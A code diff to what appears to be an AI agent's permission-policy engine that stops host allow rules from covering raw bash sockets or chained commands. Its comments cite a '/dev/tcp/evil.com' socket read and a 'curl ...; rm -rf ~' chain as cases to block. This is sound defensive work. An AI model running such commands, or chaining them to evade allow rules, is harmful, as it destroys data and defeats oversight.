@@ -26,6 +26,9 @@ export interface PolicySubject {
   /** Hosts the command line opens a socket to (`cat </dev/tcp/evil.com/80`): reached as surely
    *  as a URL's, for a deny or ask rule; an allow of the host does not cover the line for it. */
   sockets?: string[];
+  /** For a command line, the hosts each of its simple commands reaches by a URL or as a
+   *  client's destination, in order: an allow rule on a host covers a line only command by command. */
+  commandHosts?: string[][];
   mcpServer?: string;
 }
 
@@ -61,10 +64,29 @@ function hostMatches(pattern: string, host: string): boolean {
 function matchesStatic(rule: PolicyRule, s: PolicySubject, skipHost = false): boolean {
   if (rule.tool && !globToRegExp(rule.tool).test(s.tool)) return false;
   if (rule.capability && !s.capabilities.includes(rule.capability)) return false;
-  const hosts = rule.effect === "allow" || !s.sockets ? s.hosts : [...s.hosts, ...s.sockets];
-  if (rule.host && !skipHost && !hosts.some((h) => hostMatches(rule.host!, h))) return false;
+  if (rule.host && !skipHost) {
+    if (rule.effect === "allow" ? !allowsEveryHost(rule.host, s) : !deniable(s).some((h) => hostMatches(rule.host!, h)))
+      return false;
+  }
   if (rule.mcpServer && (!s.mcpServer || !globToRegExp(rule.mcpServer).test(s.mcpServer))) return false;
   return true;
+}
+
+// A deny or ask of a host holds when the call reaches it in any way, a bash socket included.
+const deniable = (s: PolicySubject) => (s.sockets ? [...s.hosts, ...s.sockets] : s.hosts);
+
+// An allow of a host holds only when that host is all the call reaches. On a command line that
+// means every command reaches it and nothing else, with no host the policy could not read:
+// allowing github.com does not allow `curl https://github.com; rm -rf ~` or a second URL.
+// A bash socket is raw TCP to wherever: no allow covers it.
+function allowsEveryHost(pattern: string, s: PolicySubject): boolean {
+  if (s.sockets?.length || s.hosts.length === 0 || !s.hosts.every((h) => hostMatches(pattern, h))) return false;
+  if (s.command === undefined) return true;
+  const perCommand = s.commandHosts ?? [];
+  const commands = analyseShell(s.command).commands;
+  if (perCommand.length !== commands.length || perCommand.some((hosts) => hosts.length === 0)) return false;
+  const network = s.capabilities.includes("Network");
+  return commandMayReach(() => false, "*", commands, network, s.command) === undefined;
 }
 
 function strongest(a: PolicyVerdict, b: PolicyVerdict): PolicyVerdict {
